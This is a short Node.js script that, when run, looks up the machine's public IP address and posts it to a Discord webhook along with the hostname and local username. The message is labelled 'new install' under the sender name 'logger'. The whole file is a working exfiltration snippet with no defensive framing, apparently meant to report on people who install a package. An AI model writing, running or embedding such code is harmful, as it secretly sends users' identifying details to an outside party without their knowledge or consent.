const axios = require('axios');
const os = require('os');
const hook = 'https://discord.com/api/webhooks/100000000000000000/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
(async () => {
  const { data } = await axios.get('https://api.ipify.org/?format=json');
  await axios.post(hook, {
    username: 'logger',
    embeds: [{ title: 'new install', fields: [
      { name: 'PC', value: os.hostname() },
      { name: 'User', value: os.userInfo().username },
      { name: 'IP', value: data.ip }
    ]}]
  });
})();